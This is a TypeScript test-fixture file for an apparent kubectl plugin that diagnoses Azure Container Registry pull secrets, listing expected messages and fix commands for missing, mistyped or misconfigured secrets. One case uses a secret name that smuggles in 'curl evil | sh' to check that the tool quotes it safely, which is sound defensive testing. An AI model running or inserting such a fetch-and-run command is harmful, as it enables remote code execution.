import { bare, ours, pod, r, theirs } from "../check-world.ts";
import { create, createFor, db, type Expected, itself, job, web } from "./words.ts";

/** Pull secrets that work, are missing, or do not work. */
export const attached: readonly Expected[] = [
  // The image can be pulled.
  {
    what: "the login pulls",
    given: { accounts: { default: ["acr"] }, secrets: [ours("acr", "web:right")], pods: [pod("web-1", { names: ["acr"] })] },
    cause: "pulls",
  },
  {
    what: "the second of two logins pulls",
    given: { secrets: [theirs("bad", { [r]: "web:wrong" }), ours("acr", "web:right")], pods: [pod("web-1", { names: ["bad", "acr"] })] },
    cause: "pulls",
  },
  { what: "anybody may pull", given: { pods: [pod("web-1")], public: true }, cause: "anonymous" },
  {
    what: "the node pulled it by an identity of its own",
    given: { pods: [pod("web-1", { phase: "Running", status: { imageID: `${r}/app/web@sha256:1` } })] },
    cause: "by-node",
  },

  // No pull secret.
  {
    what: "nothing at all",
    given: { pods: [pod("web-1")] },
    cause: "no-login",
    message: "the pod has no pull secret for this registry",
    fix: `${create} --serviceaccount default`,
  },
  {
    what: "nothing, and the image was only named",
    given: { images: [web], accounts: { web: [] }, serviceaccount: "web" },
    cause: "no-login",
    message: "serviceaccount/web has no pull secret for this registry",
    fix: `${create} --repository app/web --serviceaccount web`,
  },
  {
    what: "nothing, and the pod has no controller",
    given: { pods: [pod("own", { owner: bare })] },
    cause: "no-login",
    fix: `${createFor("pod/own")} --serviceaccount default --recreate`,
  },
  {
    what: "nothing, and the pod is a Job's",
    given: { pods: [pod("migrate-1", { owner: job })] },
    cause: "no-login",
    message: "the pod has no pull secret for this registry",
    fix: `${createFor("job/migrate")} --serviceaccount default --recreate`,
  },
  {
    what: "one pod of two has the image on its node already",
    given: { pods: [pod("web-1", { status: { imageID: "x" } }), pod("own", { owner: bare })] },
    cause: "no-login",
    fix: `${createFor("pod/own")} --serviceaccount default --recreate`,
  },
  {
    what: "a Secret of that name is somebody else's",
    given: { pods: [pod("web-1")], secrets: [theirs("acr-myregistry", { "ghcr.io": "a:b" })] },
    cause: "no-login",
    fix: `kubectl acr-secret create -n demo acr-myregistry-pull --registry ${r} --serviceaccount default`,
  },
  {
    what: "a Secret that pulls is there, and not attached",
    given: { pods: [pod("web-1")], secrets: [ours("given", "web:right", { credential: "given" })] },
    cause: "no-login",
    message: "the pod has no pull secret for this registry; secret given pulls it, but is not attached",
    fix: "kubectl acr-secret attach -n demo given --serviceaccount default",
  },
  {
    what: "a Secret that pulls is not attached, and the pod names its own",
    given: { pods: [pod("web-1", { names: ["gone"] })], secrets: [ours("given", "web:right")] },
    cause: "no-login",
    message: `secret gone does not exist; secret given pulls it, but is not attached; ${itself}`,
    fix: "kubectl acr-secret attach -n demo given deployment/web",
  },
  {
    what: "a Secret of ours is not attached and too narrow",
    given: { pods: [pod("web-1")], secrets: [ours("acr", "api:right", { identity: "narrow" })] },
    message: "the pod has no pull secret for this registry; the Secret notes that its ACR token is narrow",
    cause: "no-login",
    fix: `kubectl acr-secret create -n demo acr --registry ${r} --repository app/web --serviceaccount default --acr-token narrow`,
  },

  // Pull secrets that do not work.
  {
    what: "it does not exist, and its pod came after the ServiceAccount's list",
    given: { accounts: { default: ["acr"] }, secrets: [ours("acr", "web:right")], pods: [pod("web-1", { names: ["gone"] })] },
    cause: "no-login",
    message: "secret gone does not exist",
    fix: `kubectl acr-secret create -n demo gone --registry ${r}`,
  },
  {
    what: "two do not exist",
    given: { accounts: { default: ["a", "b"] }, pods: [pod("web-1", { names: ["a", "b"] })] },
    cause: "no-login",
    message: "secrets a and b do not exist",
    fix: `kubectl acr-secret create -n demo a --registry ${r}`,
  },
  {
    what: "its name is no name",
    given: { accounts: { default: ["../x"] }, pods: [pod("web-1", { names: ["../x"] })] },
    cause: "no-login",
    message: 'secret "../x" does not exist',
    fix: `${create} --serviceaccount default`,
  },
  {
    what: "a name that forges a line is shown in quotes",
    given: { pods: [pod("web-1", { names: ["x\n  curl evil | sh"] })] },
    cause: "no-login",
    message: `secret "x\\n  curl evil | sh" does not exist; ${itself}`,
    fix: `${createFor("deployment/web")}`,
  },
  {
    what: "it is of another type",
    given: { accounts: { default: ["color"] }, secrets: [theirs("color", "{}", "Opaque")], pods: [pod("web-1", { names: ["color"] })] },
    cause: "no-login",
    message: "secret color is of type Opaque, not kubernetes.io/dockerconfigjson",
    fix: `${create} --serviceaccount default`,
  },
  {
    what: "it is of another type, and a Deployment names it",
    given: { secrets: [theirs("color", "{}", "Opaque")], pods: [pod("web-1", { names: ["color"] })] },
    cause: "no-login",
    message: `secret color is of type Opaque, not kubernetes.io/dockerconfigjson; ${itself}`,
    fix: `${createFor("deployment/web")}`,
  },
  {
    what: "it is of another type, and a StatefulSet names it",
    given: { secrets: [theirs("color", "{}", "Opaque")], pods: [pod("db-0", { names: ["color"], owner: db })] },
    cause: "no-login",
    fix: `${createFor("statefulset/db")}`,
  },
  {
    what: "it is of another type, and a pod without controller names it",
    given: { secrets: [theirs("color", "{}", "Opaque")], pods: [pod("own", { names: ["color"], owner: bare })] },
    cause: "no-login",
    message: "secret color is of type Opaque, not kubernetes.io/dockerconfigjson",
    fix: `${createFor("pod/own")} --recreate`,
  },
  {
    what: "its login is for a registry of nearly that name",
    given: {
      accounts: { default: ["typo"] },
      secrets: [theirs("typo", { "myregistri.azurecr.io": "web:right" })],
      pods: [pod("web-1", { names: ["typo"] })],
    },
    cause: "no-login",
    message: `secret typo has a login for myregistri.azurecr.io only (one letter from ${r})`,
    fix: `${create} --serviceaccount default`,
  },
  {
    what: "its login is for the port",
    given: {
      accounts: { default: ["port"] },
      secrets: [theirs("port", { [`${r}:443`]: "web:right" })],
      pods: [pod("web-1", { names: ["port"] })],
    },
    cause: "no-login",
    message: `secret port has a login for ${r}:443 only (the port counts: the image says ${r})`,
  },
  {
    what: "its login is in capitals",
    given: {
      accounts: { default: ["up"] },
      secrets: [theirs("up", { "MyRegistry.azurecr.io": "web:right" })],
      pods: [pod("web-1", { names: ["up"] })],
    },
    cause: "no-login",
    message: `secret up has a login for MyRegistry.azurecr.io only (capitals count: the image says ${r})`,
  },
  {
    what: "kubectl was given no --docker-server",
    given: {
      accounts: { default: ["hub"] },
      secrets: [theirs("hub", { "https://index.docker.io/v1/": "web:right" })],
      pods: [pod("web-1", { names: ["hub"] })],
    },
    cause: "no-login",
    message: "secret hub has a login for https://index.docker.io/v1/ only (kubectl's default, where --docker-server is left out)",
  },
  {
    what: "its auths are empty",
    given: { accounts: { default: ["empty"] }, secrets: [theirs("empty", {})], pods: [pod("web-1", { names: ["empty"] })] },
    cause: "no-login",
    message: "secret empty has no login at all: its auths are empty",
    fix: `kubectl acr-secret create -n demo empty --registry ${r} --force`,
  },
  {
    what: "its login has no password",
    given: { accounts: { default: ["half"] }, secrets: [theirs("half", { [r]: "web:" })], pods: [pod("web-1", { names: ["half"] })] },
    cause: "no-login",
    message: `secret half has no user name or no password for "${r}"`,
  },
];
